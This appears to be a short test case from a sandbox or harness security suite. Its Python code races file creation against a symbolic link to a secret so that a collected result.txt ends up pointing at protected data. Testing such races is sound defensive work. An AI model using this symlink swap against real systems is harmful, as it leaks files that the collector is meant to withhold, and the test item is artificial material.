# attack: a result that changes places with a link
# expect: S
# control: none: what lies in the workspace is not collected yet
# needs: workspace

import threading


def swap():
    for turn in range(200):
        os.symlink(SECRET, "next") if turn % 2 else open("next", "w").close()
        os.rename("next", "result.txt")


thread = threading.Thread(target=swap)
thread.start()
thread.join()
